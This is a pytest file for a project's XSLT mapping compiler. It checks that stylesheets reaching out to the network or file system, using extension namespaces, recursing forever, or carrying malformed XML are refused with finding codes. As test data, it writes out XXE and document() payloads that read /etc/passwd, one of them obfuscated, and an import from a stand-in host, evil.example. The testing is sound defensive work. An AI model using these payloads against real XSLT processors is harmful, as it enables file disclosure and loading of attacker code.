"""Stylesheets that would reach out, run for ever, or hide what they do: refused, or stopped with a finding."""

from __future__ import annotations

from pathlib import Path

import pytest

from crossdock.errors import ConfigError, Reject
from crossdock.mapping.scope import Scope
from crossdock.mapping.xslt import Stylesheet, compile_stylesheet
from crossdock.message import Document

HEAD = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:xd="urn:crossdock:xslt" '


def sheet(body: str, attributes: str = "") -> Stylesheet:
    return compile_stylesheet("x", f"{HEAD}{attributes}>{body}</xsl:stylesheet>".encode(), "x.xsl", {})


def codes(body: str, attributes: str = "") -> list[str]:
    with pytest.raises(ConfigError) as caught:
        sheet(body, attributes)
    return [finding.code for finding in caught.value.findings]


@pytest.mark.parametrize(
    ("body", "attributes", "code"),
    [
        ('<xsl:include href="other.xsl"/>', "", "M143"),
        ('<xsl:import href="http://evil.example/x.xsl"/>', "", "M143"),
        ('<xsl:variable name="a" select="document(\'/etc/passwd\')"/>', "", "M143"),
        ('<xsl:template match="/"><o a="{document(\'\')}"/></xsl:template>', "", "M143"),
        ("<xsl:variable name=\"a\" select=\"document \n (concat('/etc', '/passwd'))\"/>", "", "M143"),
        ('<e:document xmlns:e="http://exslt.org/common" href="/tmp/x"/>', "", "M144"),
        ('<xsl:template match="/"><s:output xmlns:s="http://icl.com/saxon" href="/tmp/x"/></xsl:template>', "", "M144"),
        ("", 'xmlns:date="http://exslt.org/dates-and-times"', "M144"),
        ("", 'xmlns:m="http://exslt.org/math"', "M144"),
        ("", 'xmlns:dyn="http://exslt.org/dynamic"', "M144"),
        ("", 'xmlns:f="http://exslt.org/functions"', "M144"),
        ("", 'xmlns:re="http://exslt.org/regular-expressions"', "M144"),
        ("", 'xmlns:x="http://xml.apache.org/xalan/java"', "M144"),
        ("", 'xmlns:q="urn:q" extension-element-prefixes="q"', "M144"),
    ],
)
def test_reaching_out_is_refused_when_compiling(body: str, attributes: str, code: str) -> None:
    assert code in codes(body, attributes)


def test_a_doctype_is_refused() -> None:
    data = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + HEAD.encode() + b">&e;</xsl:stylesheet>"
    with pytest.raises(ConfigError) as caught:
        compile_stylesheet("x", data, "x.xsl", {})
    assert caught.value.findings[0].code == "M141"


@pytest.mark.parametrize("data", [b"", b"\0", b"<a", b"not xml", b"\xff\xfe<", b"<a/>"])
def test_what_is_no_stylesheet_is_a_finding(data: bytes) -> None:
    with pytest.raises(ConfigError) as caught:
        compile_stylesheet("x", data, "x.xsl", {})
    assert caught.value.findings[0].code in {"M141", "M142"}


def rejection(mapping: Stylesheet, document: Document, scope: Scope) -> str:
    with pytest.raises(Reject) as caught:
        mapping.apply(document, scope)
    return caught.value.findings[0].code


def test_a_template_that_calls_itself_for_ever_is_stopped(scope: Scope) -> None:
    body = (
        '<xsl:template match="/"><xsl:call-template name="t"/></xsl:template>'
        '<xsl:template name="t"><xsl:call-template name="t"/></xsl:template>'
    )
    assert rejection(sheet(body), {"a": "1"}, scope) == "M310"


def test_a_stylesheet_that_computes_a_file_name_reads_nothing(scope: Scope, tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text("<secret/>", encoding="utf-8")
    body = f"""<xsl:template match="/"><o><xsl:copy-of select="document('{secret}')"/></o></xsl:template>"""
    assert codes(body) == ["M143"]


@pytest.mark.parametrize(
    "document", ["", "x", "<a>", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "\ud800", "<a>\0</a>", "<a>" * 400]
)
def test_text_that_is_no_xml_is_a_finding(document: str, scope: Scope) -> None:
    mapping = sheet('<xsl:template match="/"><o/></xsl:template>')
    assert rejection(mapping, document, scope).startswith("L1")


@pytest.mark.parametrize("document", [{"a": "\0"}, {"1a": "x"}, [[1]], {"a": {"": "x"}}])
def test_a_document_that_xml_cannot_hold_is_a_finding(document: Document, scope: Scope) -> None:
    mapping = sheet('<xsl:template match="/"><o/></xsl:template>')
    assert rejection(mapping, document, scope).startswith("L2")


def test_markup_in_a_value_stays_a_value(scope: Scope) -> None:
    mapping = sheet('<xsl:template match="/*"><o><xsl:value-of select="a"/></o></xsl:template>')
    assert mapping.apply({"a": "<b/>&"}, scope) == '<?xml version="1.0"?>\n<o>&lt;b/&gt;&amp;</o>\n'
